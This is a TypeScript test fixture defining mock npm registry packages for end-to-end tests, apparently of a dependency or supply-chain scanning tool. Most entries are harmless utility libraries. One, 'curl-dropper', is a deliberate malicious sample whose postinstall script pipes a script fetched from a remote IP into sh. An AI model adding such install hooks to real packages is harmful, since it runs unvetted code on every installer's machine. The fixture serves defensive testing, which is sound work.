/**
 * The registry side of the end-to-end projects in fixtures/projects/npm-v*: one honest utility tree,
 * one install-script dropper, one package the registry no longer has (served as 404 by the test),
 * one behind an auth-protected scope, one whose first answers are 500s.
 */
import type { PackageFixture } from '../support/package-fixture.js';

const alice = { name: 'alice', email: 'alice@example.com' };
const mallory = { name: 'mallory', email: 'm@example.net' };

const longHistory = (versions: string[], startYear: number) =>
  versions.map((version, i) => ({ version, at: new Date(Date.UTC(startYear + i, 2, 14, 10, 0, 0)).toISOString() }));

function library(name: string, versions: { version: string; at: string }[], code: string, extra: Record<string, unknown> = {}): PackageFixture {
  return {
    name,
    publisher: alice,
    versions: versions.map(({ version, at }) => ({
      version,
      publishedAt: at,
      manifest: {
        description: `${name}: small, well-tested helpers`,
        main: 'index.js',
        license: 'MIT',
        repository: { type: 'git', url: `git+https://github.com/alice/${name.replace(/^@.*\//, '')}.git` },
        ...extra,
      },
      files: {
        'index.js': code,
        'README.md': `# ${name}\n\nSmall helpers. Install with \`npm i ${name}\` and \`require('${name}')\`.\n\n## API\n\nSee index.js; every function is documented.\n`,
        LICENSE: 'MIT License\n\nCopyright (c) alice\n',
      },
    })),
  };
}

const utilityCode = `'use strict';
/** Returns true when value is a finite number or a numeric string. */
function isNumeric(value) {
  if (typeof value === 'number') return Number.isFinite(value);
  if (typeof value === 'string' && value.trim() !== '') return Number.isFinite(Number(value));
  return false;
}
/** Splits an array into chunks of size n. */
function chunk(list, n) {
  const out = [];
  for (let i = 0; i < list.length; i += n) out.push(list.slice(i, i + n));
  return out;
}
module.exports = { isNumeric, chunk, tiny: require('tiny-dep') };
`;

export const e2ePackages: PackageFixture[] = [
  library('tidy-utils', longHistory(['1.0.0', '1.1.0', '1.2.0'], 2019), utilityCode, { dependencies: { 'tiny-dep': '^0.1.0' } }),
  library('tiny-dep', longHistory(['0.1.0'], 2018), "'use strict';\nmodule.exports = function clamp(x, lo, hi) { return Math.min(hi, Math.max(lo, x)); };\n"),
  library('dev-helper', longHistory(['3.0.0', '3.1.0'], 2020), "'use strict';\nconst { chunk } = require('tidy-utils');\nmodule.exports = function batches(items) { return chunk(items, 10); };\n", { dependencies: { 'tidy-utils': '^1.2.0' } }),
  library('opt-native', longHistory(['1.0.0'], 2021), "'use strict';\nmodule.exports = { available: false };\n"),
  library('flaky-pkg', longHistory(['0.9.0', '1.0.0'], 2020), "'use strict';\nmodule.exports = function retry(fn, n) { for (let i = 0; ; i++) { try { return fn(); } catch (e) { if (i >= n) throw e; } } };\n"),
  library('@private/secret-util', longHistory(['1.0.0'], 2022), "'use strict';\nmodule.exports = function mask(s) { return s.replace(/./g, '*'); };\n"),
  {
    name: 'curl-dropper',
    publisher: mallory,
    versions: [
      {
        version: '1.0.0',
        publishedAt: '2025-11-03T02:11:09.000Z',
        manifest: {
          description: 'fast string helpers',
          main: 'index.js',
          scripts: { postinstall: 'curl -fsSL http://203.0.113.7/p.sh | sh' },
        },
        files: { 'index.js': 'module.exports = {};\n', 'README.md': '# curl-dropper\n' },
      },
    ],
  },
];

/** The registry no longer has this one: the test makes it answer 404. */
export const GONE_PACKAGE = 'gone-pkg';
export const PRIVATE_SCOPE = { scope: '@private', token: 'e2e-secret-token' };
